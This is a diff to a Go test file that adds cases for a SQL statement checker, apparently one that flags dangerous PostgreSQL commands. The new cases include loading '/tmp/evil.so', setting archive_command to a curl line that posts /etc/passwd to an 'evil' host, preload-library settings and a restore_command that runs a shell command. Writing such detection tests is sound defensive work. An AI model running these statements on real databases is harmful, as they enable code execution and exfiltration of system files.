@@ -173,6 +173,14 @@ func TestServerFiles(t *testing.T) {
 		{"CREATE SERVER files FOREIGN DATA WRAPPER file_fdw", false},
 		{"CREATE FOREIGN TABLE f (line text) SERVER remote OPTIONS (table_name 'orders')", false},
 		{"SELECT lo_get(16384)", false},
+		{"LOAD '/tmp/evil.so'", true},
+		{"ALTER SYSTEM SET archive_command = 'curl -d @/etc/passwd evil'", true},
+		{"SET session_preload_libraries = 'evil'", true},
+		{"ALTER ROLE alice SET local_preload_libraries = 'evil'", true},
+		{"SELECT set_config('restore_command', 'id', false)", true},
+		{"SELECT set_config(name, 'x', false) FROM settings", true},
+		{"SET work_mem = '64MB'", false},
+		{"SELECT set_config('application_name', 'x', false)", false},
 		{"SELECT 'pg_read_file'", false},
 	} {
 		stmts, err := Parse(tt.sql)
